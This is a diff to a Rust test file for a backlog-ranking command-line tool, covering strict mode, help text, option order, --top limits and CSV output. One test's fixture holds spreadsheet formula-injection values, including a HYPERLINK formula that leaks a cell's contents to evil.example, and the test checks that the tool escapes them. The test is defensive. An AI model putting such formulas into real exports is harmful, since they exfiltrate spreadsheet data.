@@ -1,5 +1,5 @@
-//! The `rank` and `quickstart` examples, run as subprocesses: outputs and options of the CLI
-//! contract of DESIGN.md. Error cases are in `cli_errors.rs`.
+//! The `rank` and `quickstart` examples, run as subprocesses: outputs and options of the
+//! command line. Error cases are in `cli_errors.rs`.
 
 #![cfg(feature = "csv")]
 
@@ -7,7 +7,7 @@ mod cli_support;
 
 use std::path::Path;
 
-use cli_support::{fails, file, intercom, ok, rank, run_example};
+use cli_support::{INTERCOM, fails, file, intercom, ok, rank, run_example};
 
 #[test]
 fn json_output_has_the_exact_shape() {
@@ -250,9 +250,18 @@ fn capacity_sets_the_basis_of_the_60_percent_check() {
 
 #[test]
 fn strict_turns_unscored_items_into_errors() {
+    let path = intercom();
     fails(
-        &rank(&[&intercom(), "--strict"]),
-        &[r#"item "P4": rice needs impact, confidence, effort, which the item lacks (strict mode)"#],
+        &rank(&[&path, "--strict"]),
+        &[&format!(
+            r#"{path}: item "P4": rice needs impact, confidence, effort, which the item lacks (strict mode)"#
+        )],
+    );
+    fails(
+        &run_example("rank", &["--strict", "-"], INTERCOM),
+        &[
+            r#"standard input: item "P4": rice needs impact, confidence, effort, which the item lacks (strict mode)"#,
+        ],
     );
     let run = rank(&[&intercom(), "--strict", "--framework", "moscow"]);
     ok(&run);
@@ -353,7 +362,10 @@ fn embedded_sample_is_the_shipped_file() {
 fn help_prints_usage_and_succeeds() {
     let run = rank(&["--help"]);
     assert!(ok(&run).starts_with("rank: rank a product backlog"), "{}", run.stdout);
-    assert!(run.stdout.contains("--framework rice|wsjf|moscow"));
+    assert!(
+        run.stdout.contains("\n      --framework <rice|wsjf|moscow>  the scoring engine (default rice)\n")
+    );
+    assert_eq!(run.stderr, "");
 }
 
 #[test]
@@ -387,4 +399,122 @@ fn options_take_their_value_after_a_space_or_an_equals_sign() {
     let joined = rank(&["--format=csv", "--top=2", "--", &path]);
     assert_eq!(ok(&spaced), ok(&joined));
     assert_eq!(ok(&spaced).lines().count(), 3, "header and two rows");
+}
+
+#[test]
+fn options_and_the_file_come_in_any_order() {
+    let path = intercom();
+    let expected = "position,rank,id,title,score,category,business_value,time_criticality,risk_reduction,\
+                    cost_of_delay,job_size,wsjf\n\
+                    1,1,P3,Project 3,6.0,must,2.0,2.0,2.0,6.0,1.0,6.0\n";
+    for args in [
+        &[path.as_str(), "--framework", "moscow", "--then", "wsjf", "--top", "1", "--format", "csv"][..],
+        &["--framework=moscow", &path, "--top=1", "--then", "wsjf", "--format=csv"],
+        &["--format", "csv", "--then=wsjf", "--top", "1", "--framework", "moscow", &path],
+        &["--top", "1", "--format", "csv", "--framework", "moscow", "--then", "wsjf", "--", &path],
+    ] {
+        assert_eq!(ok(&rank(args)), expected, "{args:?}");
+    }
+}
+
+#[test]
+fn csv_output_quotes_cells_a_spreadsheet_would_run() {
+    let backlog = file(
+        "formulas.json",
+        r#"[{"id": "=1+1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "reach": 40,
+             "impact": 1, "confidence": 1, "effort": 1, "moscow": "must"},
+            {"id": "@cmd", "title": "+SUM(A1:A9)", "reach": 30, "impact": 1, "confidence": 1, "effort": 1,
+             "moscow": "should", "depends_on": ["-5"]},
+            {"id": "-5", "title": "\tTabbed", "reach": 20, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"},
+            {"id": "safe", "title": "Safe - title", "reach": 10, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"}]"#,
+    );
+    let run = rank(&[&backlog, "--format", "csv"]);
+    assert_eq!(
+        ok(&run),
+        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
+         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",40.0,40.0,1.0,1.0,1.0,40.0\n\
+         2,2,'@cmd,'+SUM(A1:A9),30.0,30.0,1.0,1.0,1.0,30.0\n\
+         3,3,'-5,'\tTabbed,20.0,20.0,1.0,1.0,1.0,20.0\n\
+         4,4,safe,Safe - title,10.0,10.0,1.0,1.0,1.0,10.0\n"
+    );
+    // A planned order guards its promoted_by cells too; numbers are never quoted.
+    let run =
+        rank(&[&backlog, "--format", "csv", "--respect-dependencies", "--top", "2", "--framework", "moscow"]);
+    assert_eq!(
+        ok(&run),
+        "position,rank,id,title,score,category,promoted_by,pinned\n\
+         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",,must,,false\n\
+         2,3,'-5,'\tTabbed,,could,'@cmd,false\n"
+    );
+    // JSON is data, not a spreadsheet: the values as they are.
+    let json: serde_json::Value =
+        serde_json::from_str(ok(&rank(&[&backlog, "--format", "json"]))).expect("json");
+    assert_eq!(
+        (&json["ranking"][0]["id"], &json["ranking"][2]["title"]),
+        (&"=1+1".into(), &"\tTabbed".into())
+    );
+}
+
+/// Two scored items and five that lack every RICE input.
+const MANY_UNSCORED: &str = r#"[
+  {"id": "A", "title": "a", "reach": 40, "impact": 1, "confidence": 0.5, "effort": 1},
+  {"id": "B", "title": "b", "reach": 20, "impact": 1, "confidence": 0.5, "effort": 1},
+  {"id": "U1", "title": "u1"}, {"id": "U2", "title": "u2"}, {"id": "U3", "title": "u3"},
+  {"id": "U4", "title": "u4"}, {"id": "U5", "title": "u5"}
+]"#;
+
+#[test]
+fn top_bounds_the_unscored_list_too() {
+    let backlog = file("many-unscored.json", MANY_UNSCORED);
+    let run = rank(&[&backlog, "--top", "2"]);
+    assert_eq!(
+        ok(&run),
+        "\
+pos  rank  id  title  score  reach  impact  conf  effort
+---  ----  --  -----  -----  -----  ------  ----  ------
+  1     1  A   a         20     40       1   0.5       1
+  2     2  B   b         10     20       1   0.5       1
+
+unscored: these items lack fields rice needs (unscored is not zero)
+id  missing
+--  ---------------------------------
+U1  reach, impact, confidence, effort
+U2  reach, impact, confidence, effort
+3 more unscored items (--top 2 lists the first 2)
+"
+    );
+    let run = rank(&[&backlog, "--top=4", "--format=csv"]);
+    let lacks = |id: &str| {
+        format!(
+            "warning: item \"{id}\": unscored, rice needs reach, impact, confidence, effort, which the item lacks\n"
+        )
+    };
+    assert_eq!(
+        (ok(&run).lines().count(), run.stderr.clone()),
+        (
+            3,
+            [lacks("U1"), lacks("U2"), lacks("U3"), lacks("U4")].concat()
+                + "warning: 1 more unscored item (--top 4 lists the first 4)\n"
+        )
+    );
+    // --top 0: no entry and no unscored item, only their counts.
+    let run = rank(&[&backlog, "--top", "0"]);
+    assert_eq!(
+        ok(&run),
+        "pos  rank  id  title\n---  ----  --  -----\n\n\
+         unscored: these items lack fields rice needs (unscored is not zero)\n\
+         5 more unscored items (--top 0 lists the first 0)\n"
+    );
+    // Without --top, or with a --top that leaves none out, every one is listed and no count.
+    for args in [&[backlog.as_str()][..], &[&backlog, "--top", "5"]] {
+        let out = rank(args).stdout;
+        assert!(out.ends_with("U5  reach, impact, confidence, effort\n"), "{out}");
+    }
+    // JSON keeps the library's shape: every unscored item.
+    let json: serde_json::Value =
+        serde_json::from_str(ok(&rank(&[&backlog, "--top", "1", "--format", "json"]))).expect("json");
+    assert_eq!(json["unscored"].as_array().map(Vec::len), Some(5));
+    // The planned order's unscored list is bounded the same way.
+    let run = rank(&[&backlog, "--top", "1", "--respect-dependencies", "--format", "csv"]);
+    assert_eq!(run.stderr, lacks("U1") + "warning: 4 more unscored items (--top 1 lists the first 1)\n");
 }
